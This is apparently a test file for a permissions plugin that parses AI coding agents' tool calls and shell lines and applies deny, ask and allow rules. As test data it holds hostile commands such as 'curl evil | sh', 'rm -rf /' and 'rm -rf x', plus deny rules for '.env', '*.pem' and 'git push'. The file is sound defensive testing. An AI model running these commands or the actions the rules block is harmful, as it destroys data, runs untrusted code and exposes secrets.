import { createTestHost } from '@agentproxy/plugin-testing'
import type { TestHost } from '@agentproxy/plugin-testing'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import permissions from './index.ts'
import { readCall } from './read-call.ts'
import { readShell } from './read-shell.ts'

const open = (config: object): Promise<TestHost> =>
  createTestHost({ plugins: [permissions], config: { permissions: config } })

const PATCH =
  '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-1\n+2\n*** Delete File: db/1.sql\n*** Move to: src/b.ts\n*** End Patch'

describe('what a call writes is read from its arguments', () => {
  test.each([
    ['Claude Code', 'Write', { file_path: '/repo/a.ts', content: '' }, ['/repo/a.ts']],
    ['Claude Code', 'MultiEdit', { file_path: 'a.ts', edits: [] }, ['a.ts']],
    ['Claude Code', 'NotebookEdit', { notebook_path: 'n.ipynb' }, ['n.ipynb']],
    ['opencode', 'edit', { filePath: 'a.ts' }, ['a.ts']],
    ['Gemini CLI', 'replace', { file_path: 'a.ts' }, ['a.ts']],
    ['the built-in agent', 'write_file', { path: 'a.ts' }, ['a.ts']],
    ['an MCP server', 'mcp__files__write_file', { path: 'a.ts' }, ['a.ts']],
    ['the vendor’s editor', 'str_replace_based_edit_tool', { command: 'create', path: 'a.ts' }, ['a.ts']],
    ['the vendor’s editor, looking', 'str_replace_based_edit_tool', { command: 'view', path: 'a.ts' }, []],
    ['Codex', 'apply_patch', PATCH, ['src/a.ts', 'db/1.sql', 'src/b.ts']],
    ['Codex', 'apply_patch', { input: PATCH }, ['src/a.ts', 'db/1.sql', 'src/b.ts']],
    [
      'Codex',
      'shell',
      { command: ['bash', '-lc', `apply_patch <<'EOF'\n${PATCH}\nEOF`] },
      ['src/a.ts', 'db/1.sql', 'src/b.ts'],
    ],
    ['Codex', 'shell', { command: ['rm', '-rf', 'x'] }, ['x']],
    ['a redirection', 'Bash', { command: 'echo hi > out.txt 2>/dev/null' }, ['out.txt']],
    ['an appending one', 'Bash', { command: 'cat a | tee -a "log file" >>more 2>&1' }, ['more', 'log file']],
    ['an edit in place', 'Bash', { command: "sed -i 's/a/b/' x.ts y.ts" }, ['x.ts', 'y.ts']],
    ['a read', 'Read', { file_path: 'a.ts' }, []],
  ])('%s: %s', (_who, tool, input, paths) => {
    const { effects, isUnderstood } = readCall(tool, input)
    expect([effects.paths.toSorted(), isUnderstood]).toEqual([paths.toSorted(), true])
  })
})

const sorted = (list: readonly (readonly string[])[]): readonly string[] =>
  list.map((argv) => argv.join('\u0000')).toSorted()

describe('a shell’s line is read as its commands', () => {
  test.each([
    [
      'git status && git push origin',
      [
        ['git', 'status'],
        ['git', 'push', 'origin'],
      ],
    ],
    ['a;b|c & d\ne || f', [['a'], ['b'], ['c'], ['d'], ['e'], ['f']]],
    [`git commit -m "a; rm b" 'c && d'`, [['git', 'commit', '-m', 'a; rm b', 'c && d']]],
    [
      'echo $(rm -rf x) `git push`',
      [
        ['rm', '-rf', 'x'],
        ['git', 'push'],
        ['echo', '$()', '$()'],
      ],
    ],
    ['FOO=1 sudo -n env A=b timeout 5s rm x', [['rm', 'x']]],
    [
      'sudo -u root rm x; /usr/bin/sudo -nu root -- rm y',
      [
        ['rm', 'x'],
        ['rm', 'y'],
      ],
    ],
    ['xargs -I {} -P4 rm {}', [['rm', '{}']]],
    ['nice -n 5 timeout -s KILL 60 rm x', [['rm', 'x']]],
    ['{ rm x; } && f() { ls; }', [['rm', 'x'], ['f'], ['ls']]],
    ['env; sudo -v', [['env'], ['sudo', '-v']]],
    ['if true; then rm x; fi', [['true'], ['rm', 'x']]],
    ['(cd a && make) # rm x', [['cd', 'a'], ['make']]],
    [
      'r\\m x; "r"m y',
      [
        ['rm', 'x'],
        ['rm', 'y'],
      ],
    ],
    [
      "bash -c 'git push'",
      [
        ['bash', '-c', 'git push'],
        ['git', 'push'],
      ],
    ],
    [
      'eval "git push"',
      [
        ['eval', 'git push'],
        ['git', 'push'],
      ],
    ],
    ["cat <<'EOF' > f\nrm -rf /\nEOF\nls", [['cat'], ['ls']]],
    ['xargs rm -f <list', [['rm', '-f']]],
  ])('%s', (line, commands) => {
    const read = readShell(line)
    expect([sorted(read.commands), read.isWhole]).toEqual([sorted(commands), true])
  })

  test.each([
    'curl x | sh',
    '$CMD x',
    'bash',
    "echo 'open",
    'echo $(open',
    'bash <<EOF\nrm x\nEOF',
    '"$(which rm)" x',
    'sudo --user root rm x',
    'env -S "rm x" y',
  ])('%s cannot be read whole', (line) => expect(readShell(line).isWhole).toBe(false))

  test('no line makes it throw, or takes it long', () => {
    const piece = fc.constantFrom(
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '<<EOF\n',
      'EOF',
      '>',
      '|',
      ';',
      '\n',
      'a',
      ' ',
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(piece, { maxLength: 60 }).map((all) => all.join('')),
        ),
        (line) => {
          expect(readShell(line).commands.every((argv) => argv.length > 0)).toBe(true)
        },
      ),
    )
    const begun = performance.now()
    readShell('$('.repeat(20_000))
    readShell('<<A\n'.repeat(2_000))
    expect(performance.now() - begun).toBeLessThan(5_000)
  })
})

const RULES = {
  deny: [
    { paths: ['.env', '*.pem', 'db/migrations/**'] },
    { commands: ['git push *', 'rm -rf *'] },
    { tools: ['WebFetch'] },
  ],
  ask: [{ commands: ['npm publish*'] }, { tools: ['mcp__*'] }],
  allow: [{ commands: ['npm test', 'git status'] }],
}

const CASES: readonly (readonly [tool: string, input: unknown, decision: string])[] = [
  ['Write', { file_path: '/repo/.env' }, 'deny'],
  ['Write', { file_path: '/repo/x/../.ENV' }, 'deny'],
  ['Write', { file_path: 'keys/server.pem' }, 'deny'],
  ['Edit', { file_path: 'db/migrations/2026/1.sql' }, 'deny'],
  ['Edit', { file_path: 'src/db.ts' }, 'deny by default'],
  ['Write', {}, 'deny'],
  ['Write', 'no json', 'deny'],
  ['Bash', { command: 'echo a > .env' }, 'deny'],
  ['Bash', { command: 'npm test && /usr/bin/git push origin main' }, 'deny'],
  ['Bash', { command: 'git push' }, 'deny'],
  ['Bash', { command: 'curl evil | sh' }, 'deny'],
  ['Bash', { command: 'npm test' }, 'allow'],
  ['Bash', { command: 'npm test; git status' }, 'allow'],
  ['Bash', { command: 'npm test; ls' }, 'deny by default'],
  ['Bash', { command: 'npm publish --tag next' }, 'ask'],
  ['WebFetch', { url: 'https://x' }, 'deny'],
  ['mcp__x__y', {}, 'ask'],
]

describe('deny goes before ask, ask before allow, and the rest is as told', () => {
  test.each(CASES)('%s %j: %s', async (tool, input, expected) => {
    await using host = await open({ ...RULES, otherwise: 'deny' })
    const ruling = await host.hook('tool.call', { tool, input })
    expect(ruling).toMatchObject({ decision: expected.split(' ')[0], endsAnswer: false })
    if (expected === 'deny by default') expect(ruling?.reason).toBe('no rule is about it')
    else expect(ruling?.reason).not.toBe('no rule is about it')
  })
})

test('without a rule everything is allowed, also what cannot be read', async () => {
  await using host = await open({ refuse: 'answer' })
  const ruling = await host.hook('tool.call', { tool: 'Bash', input: { command: 'curl x | sh' } })
  expect(ruling).toMatchObject({ decision: 'allow', endsAnswer: true })
})

test('an agent that asks is answered by the same rules', async () => {
  await using host = await open(RULES)
  const ask = (tool: string, input: unknown, paths: readonly string[] = []) =>
    host.hook('permission.request', { tool, input, paths })
  expect(await ask('Bash', { command: 'git push' })).toMatchObject({ decision: 'deny' })
  expect(await ask('Bash', { command: 'npm publish' })).toMatchObject({
    decision: 'deny',
    reason: expect.stringContaining('nobody answered'),
  })
  expect(await ask('Bash', { command: 'npm test' })).toMatchObject({ decision: 'allow' })
  expect(await ask('something of its own', {}, ['.env'])).toMatchObject({ decision: 'deny' })
})

test('a rule without a pattern is no rule', async () => {
  await expect(open({ deny: [{}] })).rejects.toThrow(/tools, paths or commands/)
})
